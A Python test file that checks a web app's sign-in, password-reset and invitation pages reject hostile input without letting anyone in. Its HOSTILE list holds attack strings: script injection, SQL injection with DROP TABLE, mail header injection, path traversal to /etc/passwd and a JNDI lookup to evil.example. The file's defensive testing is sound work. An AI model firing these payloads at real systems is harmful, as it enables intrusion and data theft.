"""What strangers may send to the forms and links of identity: refused, and without effect."""

from collections.abc import Iterator
from io import BytesIO
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from adapters.sql.deployment import DeploymentDatabase
from tests.app.identity.site import EMPLOYEE, PASSWORD, UNLIMITED, Site, form_token
from tests.support.deployment_databases import migrated_engine

HOSTILE = [
    "<script>alert(1)</script>",
    "' OR '1'='1",
    "'; DROP TABLE runtime_account; --",
    "x\r\nBcc: everybody@example.com",
    "\x00",
    "\u202eexe.moc",
    "%00%ff%c0%af",
    "{{ 7 * 7 }}",
    "../../../etc/passwd",
    "${jndi:ldap://evil.example}",
    "é" * 300,
    "a" * 100_000,
    "\ufffd\ufffd",
    "🦊@🦊.example",
]

few = settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    path = tmp_path_factory.mktemp("hostile") / "thicket.db"
    with migrated_engine(f"sqlite:///{path}") as engine:
        made = Site(limits=UNLIMITED, database=DeploymentDatabase(lambda: engine))
        made.open_accounts()
        yield made


def nobody_got_in(site: Site) -> bool:
    return site.sessions.of_account("o-1") == [] and site.sessions.of_account("e-1") == []


@pytest.mark.parametrize("text", HOSTILE)
def test_known_tricks_open_no_door(site: Site, text: str) -> None:
    visitor = site.browser()

    answers = [
        visitor.post("/sign-in", {"email": text, "password": text}),
        visitor.post("/sign-in", {"email": EMPLOYEE, "password": text}),
        visitor.post("/password-reset", {"email": text}),
        visitor.post(f"/invitation/{quote(text, safe='')}", {"password": text}),
        visitor.post(f"/password-reset/{quote(text, safe='')}", {"password": text}),
        visitor.get(f"/sign-in?next={quote(text, safe='')}"),
    ]

    assert {answer.status_code for answer in answers} <= {200, 303, 404, 405, 410, 413, 422}
    assert not any("<script>alert" in answer.text or ">49<" in answer.text for answer in answers)
    assert nobody_got_in(site)


@few
@given(email=st.text(max_size=300), password=st.text(max_size=300))
def test_whatever_is_typed_nobody_gets_in(site: Site, email: str, password: str) -> None:
    typed = {
        "email": email.encode("utf-8", "replace").decode(),
        "password": password.encode("utf-8", "replace").decode(),
    }

    assert site.browser().post("/sign-in", typed).status_code == 422
    assert nobody_got_in(site)


@few
@given(
    body=st.binary(max_size=300), kind=st.sampled_from(["form", "multipart", "json", "nonsense"])
)
def test_bodies_that_are_no_form_are_refused(site: Site, body: bytes, kind: str) -> None:
    types = {
        "form": "application/x-www-form-urlencoded",
        "multipart": "multipart/form-data; boundary=x",
        "json": "application/json",
        "nonsense": "\u00ff/;;",
    }

    answer = site.app.test_client().post("/sign-in", data=body, content_type=types[kind])

    assert answer.status_code == 400
    assert nobody_got_in(site)


def test_bytes_that_are_no_text_are_refused(site: Site) -> None:
    client = site.app.test_client()
    token = form_token(client.get("/sign-in").text)

    answer = client.post(
        "/sign-in",
        data=b"email=%FF%FE&password=%C0%AF%ED%A0%80&csrf_token=" + quote(token).encode(),
        content_type="application/x-www-form-urlencoded",
    )

    assert answer.status_code == 400
    assert nobody_got_in(site)


@few
@given(cookie=st.text(st.characters(codec="latin-1", exclude_characters="\r\n\0"), max_size=100))
def test_a_made_up_session_is_no_session(site: Site, cookie: str) -> None:
    answer = site.app.test_client().get("/account", headers={"Cookie": f"thicket={cookie}"})

    assert answer.status_code == 302


def test_fields_may_come_twice_or_be_files(site: Site) -> None:
    client = site.app.test_client()
    token = form_token(client.get("/sign-in").text)

    answers = [
        client.post(
            "/sign-in",
            data={"email": [EMPLOYEE, "x"], "password": ["wrong", PASSWORD], "csrf_token": token},
        ),
        client.post(
            "/sign-in",
            data={
                "email": EMPLOYEE,
                "password": (BytesIO(PASSWORD.encode()), "password.txt"),
                "csrf_token": token,
            },
        ),
    ]

    assert [answer.status_code for answer in answers] == [422, 422]
    assert nobody_got_in(site)


@pytest.mark.parametrize(
    "document", [{"email": EMPLOYEE, "password": PASSWORD}, {"email": 5, "password": {}}, [1], None]
)
def test_a_document_is_no_form(site: Site, document: object) -> None:
    client = site.app.test_client()
    token = form_token(client.get("/sign-in").text)

    answer = client.post("/sign-in", json=document, headers={"X-CSRFToken": token})

    assert answer.status_code == 422
    assert nobody_got_in(site)


def test_a_form_that_is_sent_again_after_signing_out_signs_nobody_in(site: Site) -> None:
    visitor = site.browser()
    token = form_token(visitor.get("/sign-in").text)
    form = {"email": EMPLOYEE, "password": PASSWORD, "csrf_token": token}
    assert visitor.client.post("/sign-in", data=form).status_code == 303
    visitor.post("/sign-out", seen="/account")

    assert visitor.client.post("/sign-in", data=form).status_code == 400
    assert nobody_got_in(site)


def test_the_pages_work_on_a_real_database(site: Site) -> None:
    visitor, elsewhere = site.browser(), site.browser()
    assert visitor.sign_in(EMPLOYEE).status_code == 303
    assert elsewhere.sign_in(EMPLOYEE).status_code == 303
    change = {"current_password": PASSWORD, "password": "another good password"}

    assert visitor.post("/account/password", change, seen="/account").status_code == 303
    assert elsewhere.get("/account").status_code == 302
    assert visitor.get("/account").status_code == 200
    assert site.audit_log.newest(limit=1)[0].action == "account.change_password"
    site.accounts.suspend("e-1")
    assert visitor.get("/account").status_code == 302

    assert nobody_got_in(site)
